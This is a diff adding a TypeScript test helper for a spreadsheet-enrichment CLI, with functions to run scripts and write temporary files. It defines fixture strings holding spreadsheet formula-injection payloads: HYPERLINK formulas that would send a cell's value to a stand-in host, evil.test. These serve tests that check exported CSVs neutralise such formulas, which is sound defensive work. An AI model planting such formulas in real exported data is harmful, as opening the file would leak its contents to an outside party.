@@ -1,0 +1,48 @@
+/** The repository's command lines run as a user runs them: a child process, its exit code and output. */
+import { execFile } from 'node:child_process';
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join, resolve } from 'node:path';
+
+const ROOT = resolve(__dirname, '../../..');
+
+export interface CliResult {
+  code: number;
+  stdout: string;
+  stderr: string;
+}
+
+/** Runs scripts/<script> with tsx (as `npm run` does after its build) from the repository root. */
+export function runScript(script: string, args: string[], timeout = 60_000): Promise<CliResult> {
+  return new Promise((done) => {
+    execFile(
+      process.execPath,
+      ['--import', 'tsx', join(ROOT, 'scripts', script), ...args],
+      { cwd: ROOT, timeout },
+      (error, stdout, stderr) => done({ code: error ? Number(error.code ?? 1) : 0, stdout, stderr }),
+    );
+  });
+}
+
+/** Writes `name` in a fresh temporary folder: each test's output and state files stay its own. */
+export function tempFile(name: string, content: string | Buffer): string {
+  const file = join(mkdtempSync(join(tmpdir(), 'sheet-enrich-cli-')), name);
+  writeFileSync(file, content);
+  return file;
+}
+
+/** Formulas an API answer could carry: written as text, neither may run when a CSV is opened. */
+export const HOSTILE_STATUS = '=HYPERLINK("http://evil.test/?leak="&A2,"Verified")';
+export const HOSTILE_TITLE = '=HYPERLINK("http://evil.test/?leak="&A2,"VP")';
+/** Someone the API answers about with such strings (extra emulator data): one for every command line. */
+export const HOSTILE = {
+  first_name: 'Mallory',
+  last_name: 'Formula',
+  company_domain: 'evil-formula.test',
+  company_name: 'Evil Formula',
+  title: HOSTILE_TITLE,
+  work_email: 'mallory@evil-formula.test',
+  work_email_status: HOSTILE_STATUS,
+  phone: '+33 6 12 34 56 78',
+  country_code: 'FR',
+};
